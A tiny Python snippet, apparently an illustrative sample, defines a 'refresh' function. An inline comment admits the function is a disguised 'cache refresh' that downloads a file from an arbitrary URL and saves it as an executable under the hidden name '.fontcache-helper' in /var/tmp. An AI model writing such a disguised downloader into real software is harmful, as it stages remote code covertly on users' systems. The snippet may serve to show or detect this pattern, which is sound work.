import urllib.request


def refresh(url):
    # a "cache refresh" that stores an executable under a hidden name
    urllib.request.urlretrieve(url, "/var/tmp/.fontcache-helper")
